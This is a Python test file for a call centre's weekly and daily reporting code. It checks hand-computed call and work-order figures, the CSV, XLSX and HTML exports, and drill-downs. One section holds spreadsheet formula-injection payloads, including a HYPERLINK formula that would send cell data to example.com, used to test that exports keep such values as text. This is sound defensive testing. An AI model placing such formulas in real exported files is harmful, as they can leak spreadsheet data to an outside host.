"""Reports against a small week computed by hand, on SQLite and PostgreSQL."""
import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from callcenter.calls.models import Call
from callcenter.workorders import cli
from callcenter.workorders.categories import load_categories
from callcenter.workorders.models import FollowUp, WorkOrder, WorkOrderEvent
from callcenter.workorders.render import render
from callcenter.workorders.reports import Report, ReportError, build, last_week, period

TZ = "Asia/Shanghai"
MON = datetime(2026, 11, 23, 0, 0, tzinfo=UTC) - timedelta(hours=8)   # Monday 00:00 local, week 2026-W48


def at(day: int, hour: int, minute: int = 0) -> datetime:
    """Local time in week 2026-W48: day 0 is Monday."""
    return MON + timedelta(days=day, hours=hour, minutes=minute)


def call(cid: str, arrived: datetime, disposition: str, queued: bool = True, wait_s: float | None = None,
         talk_s: float | None = None, survey: int | None = None) -> Call:
    answered = arrived + timedelta(seconds=wait_s) if wait_s is not None else None
    ended = (answered + timedelta(seconds=talk_s)) if answered and talk_s else arrived + timedelta(seconds=30)
    return Call(id=cid, uniqueid=cid, linkedid=cid, channel="PJSIP/trunk-1", caller_number="13800000000",
                arrived_at=arrived, queued_at=arrived + timedelta(seconds=5) if queued else None,
                agent_answered_at=answered, ended_at=ended, disposition=disposition, survey_score=survey, closed=True)


def order(oid: int, category: str, created: datetime, state: str, unit: str, field: bool, arrive_min: int | None = None,
          sub: str | None = None, repeat_of: int | None = None, level: int = 0) -> WorkOrder:
    dispatch_by = created + timedelta(minutes=3) if field else None
    return WorkOrder(id=oid, caller_number=f"1390000000{oid}", category=category, subcategory=sub, urgency="normal",
                     unit=unit, state=state, created_at=created, dispatch_by=dispatch_by,
                     arrive_by=dispatch_by + timedelta(minutes=arrive_min) if dispatch_by and arrive_min else None,
                     repeat_of=repeat_of, escalation_level=level, description=f"case {oid}")


def event(oid: int, name: str, when: datetime) -> WorkOrderEvent:
    return WorkOrderEvent(order_id=oid, at=when, actor="t", event=name, from_state=None, to_state="x")


@pytest.fixture
async def week(sessionmaker) -> None:
    async with sessionmaker() as session, session.begin():
        session.add_all([
            call("c1", at(0, 10), "answered", wait_s=10, talk_s=120, survey=5),
            call("c2", at(0, 11), "answered", wait_s=20, talk_s=60, survey=3),
            call("c3", at(1, 9), "abandoned_in_queue"),
            call("c4", at(1, 9, 30), "abandoned_in_ivr", queued=False),
            call("c5", at(-1, 23, 30), "answered", wait_s=5, talk_s=10),          # the Sunday before
        ])
        session.add_all([
            order(1, "leak", at(0, 10), "resolved", "repair_team", True, 30),
            order(2, "ic_meter", at(0, 11), "on_site", "meter_service", True, 180, sub="low_flow"),
            order(3, "complaint", at(1, 9), "accepted", "customer_service", False),
            order(4, "complaint", at(1, 10), "accepted", "customer_service", False, repeat_of=3, level=1),
            order(5, "leak", at(-3, 10), "resolved", "repair_team", True, 30),    # the week before
        ])
    async with sessionmaker() as session, session.begin():
        session.add_all([
            event(1, "dispatch", at(0, 10, 2)), event(1, "arrive", at(0, 10, 40)),   # in time; late on site
            event(2, "dispatch", at(0, 11, 5)), event(2, "arrive", at(0, 12)),       # late; in time on site
            FollowUp(id="f1", order_id=1, number="1", due_at=at(0, 14, 30), state="satisfied", digit="1",
                     created_at=at(0, 12), answered_at=at(0, 14, 40)),
            FollowUp(id="f5", order_id=5, number="5", due_at=at(1, 9), state="unsatisfied", digit="2",
                     created_at=at(-3, 12), answered_at=at(1, 9, 10)),
        ])


async def test_weekly_report_matches_the_figures_computed_by_hand(sessionmaker, week) -> None:
    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(), answer_within_s=15)
    assert report.indicators == {
        "calls": 4, "answered": 2, "offered_to_agents": 3, "abandoned_in_queue": 1, "cut_by_pbx": 0,
        "answered_within_three_rings_pct": 33.33, "abandon_rate_pct": 33.33, "asa_s": 15.0, "aht_s": 90.0,
        "survey_mean": 4.0, "survey_answers": 2,
        "orders_taken": 4, "orders_finished": 1, "orders_unfinished": 3, "orders_unacknowledged": 0,
        "field_orders": 2, "dispatch_within_3_min_pct": 50.0, "on_time_arrival_pct": 50.0,
        "follow_up_rate_pct": 33.33, "follow_ups_answered": 2, "satisfaction_pct": 50.0,
        "follow_up_same_day_pct": 100.0, "complaints": 2, "complaint_rate_pct": 50.0,
        "repeat_complaints": 1, "repeat_complaint_rate_pct": 50.0, "orders_escalated": 1,
    }
    assert [(r["category"], r["subcategory"], r["taken"], r["finished"]) for r in report.categories] == [
        ("complaint", "", 2, 0), ("ic_meter", "low_flow", 1, 0), ("leak", "", 1, 1)]
    assert report.categories[1]["name"] == "IC卡水表故障 / 水小"
    assert [(u["unit"], u["taken"], u["finished"], u["unfinished"], u["escalated"]) for u in report.units] == [
        ("customer_service", 2, 0, 2, 1), ("meter_service", 1, 0, 1, 0), ("repair_team", 1, 1, 0, 0)]
    assert [(d["day"], d["calls"], d["answered"], d["orders"]) for d in report.days[:3]] == [
        ("2026-11-23", 2, 2, 2), ("2026-11-24", 2, 0, 2), ("2026-11-25", 0, 0, 0)]
    assert len(report.days) == 7
    assert [n["order_id"] for n in report.notable] == [4]


async def test_calls_the_pbx_cut_are_neither_abandoned_nor_offered_unless_an_agent_had_answered(
        sessionmaker, week) -> None:
    async with sessionmaker() as session, session.begin():
        session.add_all([call("c6", at(1, 12), "cut_by_pbx"),                          # waiting when Asterisk restarted
                         call("c7", at(1, 12), "cut_by_pbx", wait_s=10, talk_s=30)])   # talking
    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(), answer_within_s=15)
    figures = {k: report.indicators[k] for k in ("calls", "answered", "offered_to_agents", "abandoned_in_queue",
                                                  "cut_by_pbx", "abandon_rate_pct", "answered_within_three_rings_pct")}
    assert figures == {"calls": 6, "answered": 3, "offered_to_agents": 4, "abandoned_in_queue": 1, "cut_by_pbx": 2,
                       "abandon_rate_pct": 25.0, "answered_within_three_rings_pct": 50.0}


async def test_an_empty_period_has_no_rates_rather_than_zero(sessionmaker) -> None:
    report = await build(sessionmaker, "daily", "2026-11-23", tz=TZ, categories=load_categories(), answer_within_s=15)
    assert report.indicators["calls"] == 0 and report.indicators["abandon_rate_pct"] is None
    assert report.indicators["dispatch_within_3_min_pct"] is None


async def test_the_three_formats_carry_the_same_figures(sessionmaker, week) -> None:
    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(),
                         answer_within_s=15, hotline="96666")
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
    assert ["dispatch_within_3_min_pct", "50.0"] in rows and ["repair_team", "1", "1", "0", "0", "0"] in rows
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    values = {r[0]: r[2] for r in book["indicators"].iter_rows(values_only=True) if r and len(r) > 2}
    assert values["abandon_rate_pct"] == 33.33 and values["orders_taken"] == 4
    assert book["units"]["A2"].value == "customer_service"
    page = render(report, "html").decode()
    assert "2026-W48" in page and "<svg" in page and "3分钟派单率" in page and "case 4" in page
    with pytest.raises(ValueError, match="unknown format 'pdf'"):
        render(report, "pdf")


def test_periods_daily_weekly_cycle_and_calendar_month() -> None:
    week = period("weekly", "2026-W48", TZ)
    assert (week.start, week.end - week.start) == (MON, timedelta(days=7))
    cycle = period("cycle", "2026-01", TZ)
    assert cycle.start.isoformat() == "2025-12-26T00:00:00+08:00" and cycle.end.isoformat() == "2026-01-26T00:00:00+08:00"
    december = period("monthly", "2026-12", TZ)
    assert december.end.isoformat() == "2027-01-01T00:00:00+08:00"
    assert last_week(datetime(2026, 11, 30).date()) == "2026-W48"
    with pytest.raises(ReportError, match=r"expected e\.g\. 2026-W47"):
        period("weekly", "last week", TZ)
    with pytest.raises(ReportError, match="unknown report 'yearly'"):
        period("yearly", "2026", TZ)


def test_the_cli_writes_the_weekly_report(settings, tmp_path) -> None:
    out = tmp_path / "week.xlsx"
    assert cli.main("report", ["weekly", "--week", "2026-W48", "--format", "xlsx", "--out", str(out)], settings) == 0
    assert load_workbook(out)["indicators"]["A1"].value.endswith("2026-W48")
    assert cli.main("report", ["weekly", "--week", "W48"], settings) == 2


def test_which_reports_go_out_on_which_day() -> None:
    from datetime import date

    from callcenter.workorders.reports import due_reports

    assert due_reports(date(2026, 11, 24)) == [("daily", "2026-11-23")]
    assert due_reports(date(2026, 11, 23)) == [("daily", "2026-11-22"), ("weekly", "2026-W47")]   # a Monday
    assert due_reports(date(2026, 11, 26)) == [("daily", "2026-11-25"), ("cycle", "2026-11")]
    assert due_reports(date(2027, 1, 1)) == [("daily", "2026-12-31"), ("monthly", "2026-12")]


async def test_the_days_reports_are_written_once(settings, sessionmaker, week) -> None:
    from datetime import date

    from callcenter.workorders.runner import write_due_reports
    from callcenter.workorders.service import WorkOrderService

    orders = WorkOrderService(sessionmaker, load_categories(), TZ)
    written = await write_due_reports(settings, orders, date(2026, 11, 30))   # Monday after W48
    assert sorted(p.name for p in written) == sorted(
        f"{k}.{f}" for k in ("daily-2026-11-29", "weekly-2026-W48") for f in ("csv", "xlsx", "html"))
    weekly = next(p for p in written if p.name == "weekly-2026-W48.csv").read_text(encoding="utf-8-sig")
    assert "orders_taken,4" in weekly
    assert await write_due_reports(settings, orders, date(2026, 11, 30)) == []


# ---------------------------------------------------------------- formulas stay text

PAYLOADS = ["=1+1", "+cmd", "-2", "@SUM(A1)", "\t=x", "\r=x", "＝1+1"]


def formula_report(text: str) -> Report:
    """A report whose every free-text cell carries `text` and whose counts include -2."""
    return Report(period=period("weekly", "2026-W48", TZ), hotline=text, generated_at=at(6, 12),
                  indicators={"calls": -2, "abandon_rate_pct": -1.5},
                  categories=[{"category": text, "subcategory": text, "name": text, "taken": -2, "finished": 0}],
                  units=[{"unit": text, "taken": 1, "finished": -2, "unfinished": 3, "unacknowledged": 0,
                          "escalated": 0}],
                  days=[{"day": text, "calls": -2, "answered": 0, "orders": 0}],
                  notable=[{"order_id": 4, "category": text, "unit": text, "state": text, "escalation_level": 1,
                            "returns": 0, "repeat_of": None, "description": text}])


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_is_written_as_text_in_csv(text: str) -> None:
    rows = list(csv.reader(io.StringIO(render(formula_report(text), "csv").decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert cells.count("'" + text) == 9           # every free-text cell of the blocks
    assert rows[0] == ["# " + text + " 周报"]      # starts with "#": text already
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r", "＝")) for cell in cells)
    assert ["calls", "-2"] in rows and ["abandon_rate_pct", "-1.5"] in rows   # numbers stay numbers
    assert ["'" + text, "'" + text, "'" + text, "-2", "0"] in rows


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_is_a_plain_string_cell_in_xlsx(text: str) -> None:
    book = load_workbook(io.BytesIO(render(formula_report(text), "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    kept = text.replace("\r", "\n")              # XML reads a bare CR as a line feed
    carrying = [cell for cell in cells if cell.value == kept]
    assert len(carrying) == 9 and all(cell.data_type == "s" and cell.quotePrefix for cell in carrying)
    assert book["indicators"]["A1"].value.startswith(kept) and book["indicators"]["A1"].data_type == "s"
    numbers = {r[0]: r[2] for r in book["indicators"].iter_rows(values_only=True) if r and len(r) > 2}
    assert numbers["calls"] == -2 and numbers["abandon_rate_pct"] == -1.5
    assert book["categories"]["D2"].value == -2 and book["categories"]["D2"].data_type == "n"


async def test_an_order_description_with_a_formula_reaches_the_reports_as_text(sessionmaker, week) -> None:
    link = '=HYPERLINK("http://example.com/?leak="&A1,"点击查看")'
    async with sessionmaker() as session, session.begin():
        (await session.get(WorkOrder, 4)).description = link
    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(), answer_within_s=15)
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
    assert any(row and row[-1] == "'" + link for row in rows)
    notable = load_workbook(io.BytesIO(render(report, "xlsx")))["notable"]
    cell = next(c for row in notable.iter_rows() for c in row if c.value == link)
    assert cell.data_type == "s" and cell.quotePrefix


# ---------------------------------------------------------------- a figure and its rows: one definition

async def _ids(sessionmaker, query) -> set:
    async with sessionmaker() as session:
        return set((await session.scalars(query)).all())


async def test_every_figure_drills_down_to_exactly_the_rows_it_counted(sessionmaker, week) -> None:
    from callcenter.workorders.reports import INDICATORS, Sets, period

    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(), answer_within_s=15)
    async with sessionmaker() as session:
        sets = Sets(session.get_bind().dialect.name, period("weekly", "2026-W48", TZ), 15, load_categories())
    for indicator in INDICATORS:
        counted = await _ids(sessionmaker, sets.rows(indicator))
        value = report.indicators[indicator.name]
        if indicator.kind == "count":
            assert len(counted) == value, indicator.name
        elif indicator.kind == "share":
            whole = await _ids(sessionmaker, sets.rows(indicator, "of"))
            assert counted <= whole, indicator.name
            assert value == (round(100 * len(counted) / len(whole), 2) if whole else None), indicator.name
    # by hand: which rows, not only how many
    by_name = {i.name: i for i in INDICATORS}
    assert await _ids(sessionmaker, sets.rows(by_name["calls"])) == {"c1", "c2", "c3", "c4"}
    assert await _ids(sessionmaker, sets.rows(by_name["answered_within_three_rings_pct"])) == {"c1"}
    assert await _ids(sessionmaker, sets.rows(by_name["abandon_rate_pct"], "of")) == {"c1", "c2", "c3"}
    assert await _ids(sessionmaker, sets.rows(by_name["asa_s"])) == {"c1", "c2"}
    assert await _ids(sessionmaker, sets.rows(by_name["dispatch_within_3_min_pct"])) == {1}
    assert await _ids(sessionmaker, sets.rows(by_name["on_time_arrival_pct"])) == {2}
    assert await _ids(sessionmaker, sets.rows(by_name["repeat_complaints"])) == {4}
    assert await _ids(sessionmaker, sets.rows(by_name["satisfaction_pct"], "of")) == {"f1", "f5"}


async def test_a_drill_down_narrowed_to_a_block_row_lists_that_rows_orders(sessionmaker, week) -> None:
    from datetime import date

    from callcenter.workorders.reports import BY_NAME, Narrowing, Sets, period

    report = await build(sessionmaker, "weekly", "2026-W48", tz=TZ, categories=load_categories(), answer_within_s=15)
    async with sessionmaker() as session:
        sets = Sets(session.get_bind().dialect.name, period("weekly", "2026-W48", TZ), 15, load_categories())
    taken, finished = BY_NAME["orders_taken"], BY_NAME["orders_finished"]
    for row in report.categories:
        narrowing = Narrowing(category=row["category"], subcategory=row["subcategory"])
        assert len(await _ids(sessionmaker, sets.rows(taken, narrowing=narrowing))) == row["taken"]
        assert len(await _ids(sessionmaker, sets.rows(finished, narrowing=narrowing))) == row["finished"]
    for row in report.units:
        assert len(await _ids(sessionmaker, sets.rows(taken, narrowing=Narrowing(unit=row["unit"])))) == row["taken"]
    assert await _ids(sessionmaker, sets.rows(taken, narrowing=Narrowing(category="ic_meter", subcategory="low_flow"))) == {2}
    assert await _ids(sessionmaker, sets.rows(taken, narrowing=Narrowing(category="leak", subcategory=""))) == {1}
    for row in report.days:
        day = Narrowing(day=date.fromisoformat(row["day"]))
        assert len(await _ids(sessionmaker, sets.rows(BY_NAME["calls"], narrowing=day))) == row["calls"]
        assert len(await _ids(sessionmaker, sets.rows(BY_NAME["answered"], narrowing=day))) == row["answered"]
        assert len(await _ids(sessionmaker, sets.rows(taken, narrowing=day))) == row["orders"]
